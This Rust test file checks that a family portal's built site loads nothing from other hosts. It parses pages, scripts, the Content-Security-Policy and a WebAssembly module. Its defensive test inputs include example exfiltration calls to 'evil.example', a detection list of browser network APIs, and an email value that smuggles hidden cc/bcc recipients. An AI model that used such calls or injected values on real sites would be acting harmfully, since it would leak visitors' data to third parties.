//! The portal sends nothing anywhere: a family's visit is seen by the
//! portal's own host and no one else.
//!
//! The demo portal (repository root) is built and every file a browser
//! reads is parsed:
//!
//! - HTML: nothing that loads without a click may name another host
//!   (`script[src]`, `link[href]` except `rel=canonical`/`alternate`,
//!   `img[src]`, `img[srcset]`, `source`, `video`, `audio`, `track`,
//!   `iframe`, `object`, `embed`, `input[type=image]`, inline `style`
//!   and `<style>` `url()`/`@import`, meta refresh, `a[ping]`); every page
//!   has a CSP meta, before anything it governs, that allows only
//!   `'self'` (plus `'wasm-unsafe-eval'` for scripts and `data:` for
//!   images, see [`CSP_EXTRA`]) and reports nowhere; every page sends no
//!   referrer.
//! - CSS: no `url(` or `@import` of an absolute or protocol-relative URL.
//! - SVG: no reference to another host.
//! - JS: the network APIs (`fetch(`, `XMLHttpRequest`, `import(`,
//!   `importScripts`, `new WebSocket`, `EventSource`, `sendBeacon`,
//!   `new Worker`, `new Image`, `window.open`) appear only where
//!   [`JS_NETWORK_ALLOWED`] says why; no string literal holds an absolute
//!   or protocol-relative URL unless [`JS_URL_ALLOWED`] says why.
//! - WebAssembly: the search module imports nothing, so it cannot reach
//!   the network (or anything else) by itself.

mod common;

use common::*;
use scraper::{Html, Selector};
use std::collections::BTreeMap;

/// Network APIs that may appear in a shipped JS file, each with the
/// reason it cannot contact another host. Anything else fails.
const JS_NETWORK_ALLOWED: &[(&str, &str, &str)] = &[
    (
        "search/search.js",
        "fetch(",
        "fetches the search module and index at base + 'search/…' and base + 'search-index/index.bin': same-site paths from <meta name=tsunagu-base>, which the build writes as a path",
    ),
    (
        "search/search.js",
        ".src=",
        "loads the theme's opening.js (for the hits' opening hours) from base + 'opening.js', or the data-opening URL the search page's own markup sets: a same-site path; CSP script-src 'self' refuses anything else",
    ),
    (
        "opening.js",
        "fetch(",
        "loads base + 'data/holidays.json' (the build's own holiday list, same-site path from <meta name=tsunagu-base>) with credentials: 'same-origin'",
    ),
    (
        "sw.js",
        "fetch(",
        "the service worker re-fetches only requests inside its own scope (inScope) or URLs search.js posts, which it resolves against the scope and drops when out of scope",
    ),
];

/// Absolute URLs that may appear in a JS string literal, with the reason.
/// Empty: none is needed today.
const JS_URL_ALLOWED: &[(&str, &str, &str)] = &[];

/// Sources beyond `'self'` / `'none'` the CSP may name, per directive.
/// - `'wasm-unsafe-eval'` in script-src: compiling the search module
///   (it does not allow `eval` of JS, nor inline scripts).
/// - `data:` in img-src: the theme's icons are inline SVG data URLs in
///   style.css; a `data:` image carries its bytes and contacts no host.
const CSP_EXTRA: &[(&str, &str)] = &[("script-src", "'wasm-unsafe-eval'"), ("img-src", "data:")];

/// Directives every page's policy must have, with their only value.
const CSP_REQUIRED: &[(&str, &str)] = &[
    ("default-src", "'self'"),
    ("base-uri", "'none'"),
    ("object-src", "'none'"),
    ("form-action", "'self'"),
];

fn sel(s: &str) -> Selector {
    Selector::parse(s).unwrap()
}

/// The demo portal, built once per test binary.
fn demo() -> &'static (tempfile::TempDir, BTreeMap<String, Vec<u8>>) {
    static DEMO: std::sync::OnceLock<(tempfile::TempDir, BTreeMap<String, Vec<u8>>)> =
        std::sync::OnceLock::new();
    DEMO.get_or_init(|| {
        let tmp = tempfile::tempdir().unwrap();
        let out = tmp.path().join("public");
        assert_ok(&build(&repo(), &out));
        let files = tree(&out);
        (tmp, files)
    })
}

fn text<'a>(files: &'a BTreeMap<String, Vec<u8>>, path: &str) -> &'a str {
    std::str::from_utf8(&files[path]).unwrap_or_else(|_| panic!("{path}: not UTF-8"))
}

/// Every `url(…)` argument and `@import` target in CSS text.
fn css_urls(css: &str) -> Vec<String> {
    let mut urls = Vec::new();
    let lower = css.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = lower[from..].find("url(") {
        let start = from + i + 4;
        let end = css[start..]
            .find(')')
            .map(|e| start + e)
            .unwrap_or(css.len());
        urls.push(unquote(&css[start..end]));
        from = end;
    }
    let mut from = 0;
    while let Some(i) = lower[from..].find("@import") {
        let start = from + i + 7;
        let end = css[start..]
            .find(';')
            .map(|e| start + e)
            .unwrap_or(css.len());
        let arg = css[start..end].trim();
        // `@import url(x)` is already counted; `@import "x"` is not.
        if !arg.to_ascii_lowercase().starts_with("url(") {
            urls.push(unquote(arg.split_whitespace().next().unwrap_or("")));
        }
        from = end;
    }
    urls
}

fn unquote(s: &str) -> String {
    s.trim()
        .trim_matches(|c| c == '"' || c == '\'')
        .trim()
        .to_string()
}

/// Every reason an HTML document would contact another host by itself.
fn html_foreign_loads(page: &str, doc: &Html) -> Vec<String> {
    let mut bad = Vec::new();
    for el in doc.select(&sel("*")) {
        let v = el.value();
        let name = v.name();
        let mut check = |what: &str, url: &str| {
            if is_foreign(url) {
                bad.push(format!("{page}: <{name} {what}={url:?}>"));
            }
        };
        match name {
            "link" => {
                let rel = v.attr("rel").unwrap_or("").to_ascii_lowercase();
                let navigational = rel
                    .split_ascii_whitespace()
                    .all(|r| r == "canonical" || r == "alternate");
                if !navigational || rel.is_empty() {
                    if let Some(h) = v.attr("href") {
                        check("href", h);
                    }
                }
                if let Some(s) = v.attr("imagesrcset") {
                    for c in s.split(',') {
                        check("imagesrcset", c.split_whitespace().next().unwrap_or(""));
                    }
                }
            }
            "a" | "area" => {
                // A link only loads when clicked; but ping= reports the click elsewhere.
                if let Some(p) = v.attr("ping") {
                    for u in p.split_ascii_whitespace() {
                        check("ping", u);
                    }
                }
            }
            "form" | "button" => {}
            "meta" => {
                if v.attr("http-equiv")
                    .is_some_and(|h| h.eq_ignore_ascii_case("refresh"))
                {
                    bad.push(format!("{page}: <meta http-equiv=refresh>"));
                }
            }
            "style" => {
                for u in css_urls(&el.text().collect::<String>()) {
                    check("<style> url", &u);
                }
            }
            _ => {
                for attr in ["src", "data", "poster", "background", "href", "xlink:href"] {
                    if let Some(u) = v.attr(attr) {
                        check(attr, u);
                    }
                }
                if let Some(s) = v.attr("srcset") {
                    for c in s.split(',') {
                        check("srcset", c.split_whitespace().next().unwrap_or(""));
                    }
                }
            }
        }
        if let Some(style) = v.attr("style") {
            for u in css_urls(style) {
                if is_foreign(&u) {
                    bad.push(format!("{page}: <{name} style> url({u})"));
                }
            }
        }
    }
    bad
}

#[test]
fn no_html_page_loads_anything_from_another_host() {
    let (_, files) = demo();
    let mut bad = Vec::new();
    let mut pages = 0;
    for path in files.keys().filter(|p| p.ends_with(".html")) {
        pages += 1;
        bad.extend(html_foreign_loads(
            path,
            &Html::parse_document(text(files, path)),
        ));
    }
    assert!(pages > 50, "only {pages} pages");
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn no_css_or_svg_loads_anything_from_another_host() {
    let (_, files) = demo();
    let mut bad = Vec::new();
    let mut css = 0;
    for (path, _) in files.iter() {
        if path.ends_with(".css") {
            css += 1;
            for u in css_urls(text(files, path)) {
                if is_foreign(&u) {
                    bad.push(format!("{path}: url({u})"));
                }
            }
        }
        if path.ends_with(".svg") {
            let doc = Html::parse_document(text(files, path));
            bad.extend(html_foreign_loads(path, &doc));
            for u in css_urls(text(files, path)) {
                if is_foreign(&u) {
                    bad.push(format!("{path}: url({u})"));
                }
            }
        }
    }
    assert!(css > 0, "no stylesheet was built");
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

/// A JS token we care about: a string literal (with its line) or code.
#[derive(Debug)]
enum Js {
    Str(usize, String),
    Code(usize, String),
}

/// Splits JS into string literals (quotes, template literals) and code,
/// dropping comments and regular-expression literals. Good enough for
/// hand-written ES2017 (not a full parser).
fn js_tokens(src: &str) -> Vec<Js> {
    let chars: Vec<char> = src.chars().collect();
    let mut out = Vec::new();
    let mut code = String::new();
    let mut line = 1;
    let mut code_line = 1;
    let mut i = 0;
    // The last significant code character, to tell a regex from a division.
    let mut last = '\0';
    let mut last_word = String::new();
    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied().unwrap_or('\0');
        if c == '\n' {
            line += 1;
        }
        if c == '/' && next == '/' {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
            continue;
        }
        if c == '/' && next == '*' {
            i += 2;
            while i + 1 < chars.len() && !(chars[i] == '*' && chars[i + 1] == '/') {
                if chars[i] == '\n' {
                    line += 1;
                }
                i += 1;
            }
            i += 2;
            continue;
        }
        let regex_context = "(,=:[!&|?{};+-*%<>~^".contains(last)
            || last == '\0'
            || matches!(
                last_word.as_str(),
                "return" | "typeof" | "case" | "in" | "of"
            );
        if c == '/' && regex_context {
            // A regular-expression literal: skip it, classes included.
            i += 1;
            let mut class = false;
            while i < chars.len() {
                match chars[i] {
                    '\\' => i += 1,
                    '[' => class = true,
                    ']' => class = false,
                    '/' if !class => break,
                    '\n' => break,
                    _ => {}
                }
                i += 1;
            }
            i += 1;
            while i < chars.len() && chars[i].is_ascii_alphabetic() {
                i += 1;
            }
            last = 'r';
            last_word.clear();
            continue;
        }
        if c == '"' || c == '\'' || c == '`' {
            if !code.is_empty() {
                out.push(Js::Code(code_line, std::mem::take(&mut code)));
            }
            let start_line = line;
            let mut s = String::new();
            i += 1;
            while i < chars.len() && chars[i] != c {
                if chars[i] == '\\' && i + 1 < chars.len() {
                    s.push(chars[i]);
                    i += 1;
                }
                if chars[i] == '\n' {
                    line += 1;
                }
                s.push(chars[i]);
                i += 1;
            }
            i += 1;
            out.push(Js::Str(start_line, s));
            code_line = line;
            last = 's';
            last_word.clear();
            continue;
        }
        if code.is_empty() {
            code_line = line;
        }
        code.push(c);
        if !c.is_whitespace() {
            if c.is_alphanumeric() || c == '_' || c == '$' {
                if !(last.is_alphanumeric() || last == '_' || last == '$') {
                    last_word.clear();
                }
                last_word.push(c);
            } else {
                last_word.clear();
            }
            last = c;
        }
        i += 1;
    }
    if !code.is_empty() {
        out.push(Js::Code(code_line, code));
    }
    out
}

/// An absolute or protocol-relative URL inside a string literal.
fn js_string_urls(s: &str) -> Vec<String> {
    let lower = s.to_ascii_lowercase();
    let mut found = Vec::new();
    for scheme in ["http://", "https://", "ws://", "wss://", "ftp://"] {
        let mut from = 0;
        while let Some(i) = lower[from..].find(scheme) {
            let start = from + i;
            let end = s[start..]
                .find(|c: char| c.is_whitespace() || "'\"`)<>".contains(c))
                .map(|e| start + e)
                .unwrap_or(s.len());
            found.push(s[start..end].to_string());
            from = end.max(start + 1);
        }
    }
    // `//host/…` at the start of a literal (a protocol-relative URL).
    let t = s.trim_start();
    if t.starts_with("//")
        && t[2..]
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric())
    {
        found.push(t.to_string());
    }
    found
}

const NETWORK_APIS: &[&str] = &[
    "fetch(",
    "XMLHttpRequest",
    "import(",
    "importScripts",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "new Worker",
    "SharedWorker",
    "new Image",
    "window.open",
    "RTCPeerConnection",
    ".src =",
    ".src=",
];

/// Problems in one JS file, given what is allowed.
fn js_problems(path: &str, src: &str) -> Vec<String> {
    js_problems_with(path, src, JS_NETWORK_ALLOWED)
}

fn js_problems_with(path: &str, src: &str, net_allowed: &[(&str, &str, &str)]) -> Vec<String> {
    let mut bad = Vec::new();
    for tok in js_tokens(src) {
        match tok {
            Js::Str(line, s) => {
                for url in js_string_urls(&s) {
                    let allowed = JS_URL_ALLOWED
                        .iter()
                        .any(|(f, u, _)| *f == path && url.starts_with(u));
                    if !allowed {
                        bad.push(format!("{path}:{line}: absolute URL in a string: {url}"));
                    }
                }
            }
            Js::Code(line, code) => {
                let squashed: String = code.split_whitespace().collect::<Vec<_>>().join(" ");
                for api in NETWORK_APIS {
                    let hit = squashed.contains(api)
                        || (api.ends_with('(') && squashed.contains(&api.replace('(', " (")));
                    // The build minifies (`.src =` is written `.src=`):
                    // an allowance holds for the API with or without spaces.
                    let same = |a: &str| a.replace(' ', "") == api.replace(' ', "");
                    if hit && !net_allowed.iter().any(|(f, a, _)| *f == path && same(a)) {
                        bad.push(format!("{path}: near line {line}: uses `{api}`"));
                    }
                }
            }
        }
    }
    bad
}

#[test]
fn js_files_contact_no_other_host() {
    let (_, files) = demo();
    let mut bad = Vec::new();
    let mut seen = Vec::new();
    for path in files
        .keys()
        .filter(|p| p.ends_with(".js") || p.ends_with(".mjs"))
    {
        if tsunagu::output::fingerprint::is_hashed_name(path) {
            // A content-hashed copy: checked as the plain-named file, and
            // it must be exactly that file.
            let plain = files.keys().find(|p| {
                tsunagu::output::fingerprint::hashed_path(p, &files[*p]).as_deref()
                    == Some(path.as_str())
            });
            assert!(
                plain.is_some(),
                "{path}: a hashed name with no plain file of the same bytes"
            );
            continue;
        }
        seen.push(path.clone());
        bad.extend(js_problems(path, text(files, path)));
    }
    for expected in ["site.js", "search/search.js", "sw.js"] {
        assert!(
            seen.iter().any(|s| s == expected),
            "{expected} not built: {seen:?}"
        );
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
    // Every allow-list entry is still needed (a stale entry hides nothing,
    // but says something untrue).
    for (file, api, _) in JS_NETWORK_ALLOWED {
        let src = files
            .get(*file)
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .unwrap_or_default();
        assert!(
            src.contains(api),
            "allow-list entry ({file}, {api}) is no longer used"
        );
        // …and the tokenizer sees it as code (not swallowed as a comment,
        // string or regex), so the checker really looks at this file.
        let without = js_problems_with(file, &src, &[]);
        assert!(
            without.iter().any(|b| b.contains(&format!("`{api}`"))),
            "the JS tokenizer missed {api} in {file}: {without:?}"
        );
    }
}

#[test]
fn the_js_checker_catches_network_use() {
    let cases = [
        "fetch('https://evil.example/t')",
        "var u = \"https://evil.example/\"; x(u)",
        "var u = '//evil.example/p.gif'",
        "navigator.sendBeacon(u, d)",
        "new XMLHttpRequest()",
        "import('https://evil.example/m.js')",
        "new WebSocket(u)",
        "new EventSource(u)",
        "img.src = u",
        "var t = `https://${host}/x`",
        "fetch (u)",
    ];
    for c in cases {
        assert!(!js_problems("x.js", c).is_empty(), "not caught: {c}");
    }
    let fine = "// https://example.jp/ in a comment\n/* fetch('https://x') */\nvar r = /\\/(a|b)$/.test(p); var s = 'self';";
    assert_eq!(js_problems("x.js", fine), Vec::<String>::new());
}

#[test]
fn every_page_has_a_csp_that_allows_only_the_site_itself() {
    let (_, files) = demo();
    let csp_sel = sel("meta[http-equiv]");
    let mut bad = Vec::new();
    for path in files.keys().filter(|p| p.ends_with(".html")) {
        let html = text(files, path);
        let doc = Html::parse_document(html);
        let metas: Vec<_> = doc
            .select(&csp_sel)
            .filter(|m| {
                m.value()
                    .attr("http-equiv")
                    .is_some_and(|h| h.eq_ignore_ascii_case("content-security-policy"))
            })
            .collect();
        if metas.len() != 1 {
            bad.push(format!("{path}: {} CSP metas", metas.len()));
            continue;
        }
        let policy = metas[0].value().attr("content").unwrap_or("");
        bad.extend(csp_problems(path, policy));
        // The policy only governs what comes after it.
        let meta_at = html.find("Content-Security-Policy").unwrap();
        for tag in ["<script", "<link", "<style", "<img", "<base"] {
            if let Some(at) = html.to_ascii_lowercase().find(tag) {
                if at < meta_at {
                    bad.push(format!("{path}: {tag} before the CSP meta"));
                }
            }
        }
        let referrer = doc
            .select(&sel("meta[name=referrer]"))
            .next()
            .and_then(|m| m.value().attr("content").map(str::to_string));
        if referrer.as_deref() != Some("no-referrer") {
            bad.push(format!(
                "{path}: referrer policy {referrer:?}, expected no-referrer"
            ));
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

/// Why a policy allows more than the site itself.
fn csp_problems(page: &str, policy: &str) -> Vec<String> {
    let mut bad = Vec::new();
    let dirs = csp_directives(policy);
    for (name, value) in CSP_REQUIRED {
        match dirs.get(*name) {
            Some(v) if v.len() == 1 && v[0] == *value => {}
            other => bad.push(format!("{page}: {name} should be {value}, is {other:?}")),
        }
    }
    for (name, sources) in &dirs {
        if matches!(name.as_str(), "report-uri" | "report-to") {
            bad.push(format!("{page}: {name} sends reports away: {sources:?}"));
            continue;
        }
        if matches!(
            name.as_str(),
            "upgrade-insecure-requests" | "block-all-mixed-content"
        ) {
            continue;
        }
        if sources.is_empty() {
            bad.push(format!("{page}: {name} has no sources"));
        }
        for s in sources {
            let ok = s == "'self'"
                || s == "'none'"
                || CSP_EXTRA.iter().any(|(d, v)| d == name && v == s);
            if !ok {
                bad.push(format!("{page}: {name} allows {s}"));
            }
        }
    }
    bad
}

#[test]
fn the_csp_checker_refuses_what_it_should() {
    let good = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; connect-src 'self'; worker-src 'self'; base-uri 'none'; form-action 'self'; object-src 'none'";
    assert_eq!(csp_problems("p", good), Vec::<String>::new());
    for bad in [
        "default-src *; base-uri 'none'; object-src 'none'; form-action 'self'",
        "default-src 'self'; script-src 'self' 'unsafe-inline'; base-uri 'none'; object-src 'none'; form-action 'self'",
        "default-src 'self'; script-src 'self' 'unsafe-eval'; base-uri 'none'; object-src 'none'; form-action 'self'",
        "default-src 'self'; connect-src https:; base-uri 'none'; object-src 'none'; form-action 'self'",
        "default-src 'self'; img-src https://stats.example; base-uri 'none'; object-src 'none'; form-action 'self'",
        "default-src 'self'; script-src 'self' data:; base-uri 'none'; object-src 'none'; form-action 'self'",
        "default-src 'self'; base-uri 'none'; object-src 'none'; form-action 'self'; report-uri https://r.example/",
        "default-src 'self'; object-src 'none'; form-action 'self'",
        "script-src 'self'",
    ] {
        assert!(!csp_problems("p", bad).is_empty(), "accepted: {bad}");
    }
}

/// Reads an unsigned LEB128 number.
fn leb(bytes: &[u8], at: &mut usize) -> u64 {
    let mut n = 0u64;
    let mut shift = 0;
    loop {
        let b = bytes[*at];
        *at += 1;
        n |= u64::from(b & 0x7f) << shift;
        if b & 0x80 == 0 {
            return n;
        }
        shift += 7;
    }
}

#[test]
fn the_search_module_imports_nothing() {
    let (_, files) = demo();
    let (path, wasm) = files
        .iter()
        .find(|(p, _)| p.ends_with(".wasm"))
        .expect("a .wasm file is built");
    assert_eq!(&wasm[..4], b"\0asm", "{path}: not WebAssembly");
    let mut at = 8;
    let mut imports = 0;
    while at < wasm.len() {
        let id = wasm[at];
        at += 1;
        let size = leb(wasm, &mut at) as usize;
        if id == 2 {
            let mut p = at;
            imports = leb(wasm, &mut p);
        }
        at += size;
    }
    assert_eq!(
        imports, 0,
        "{path} imports {imports} functions/values from JS: it could reach the network through them"
    );
}

/// An entry's `email` becomes a `mailto:` link a family taps to write to
/// the center. Header fields in it (`?cc=`, `?bcc=`, with the second `@`
/// percent-encoded) would send a copy of that message to someone else.
#[test]
fn an_entry_email_cannot_add_recipients() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("portal");
    copy_dir(&repo().join("tests/fixtures/portals/small"), &root);
    std::fs::write(
        root.join("content/centers/mail.md"),
        "---\nname: メール窓口\nkana: めーるまどぐち\nemail: soudan@center.example.jp?cc=spy%40evil.example&bcc=log%40tracker.example\nverified: 2026-10-01\n---\n",
    )
    .unwrap();
    let out = tmp.path().join("public");
    let o = build(&root, &out);
    if !o.status.success() {
        // Refused: the right outcome, if it names the field.
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(stderr.contains("email"), "{stderr}");
        return;
    }
    let page = std::fs::read_to_string(out.join("centers/mail/index.html")).unwrap();
    let doc = Html::parse_document(&page);
    for a in doc.select(&sel("a[href^='mailto:']")) {
        let href = a.value().attr("href").unwrap().to_ascii_lowercase();
        assert!(
            !href.contains("cc=") && !href.contains("bcc=") && !href.contains("to="),
            "a mailto link adds recipients: {href}"
        );
    }
}
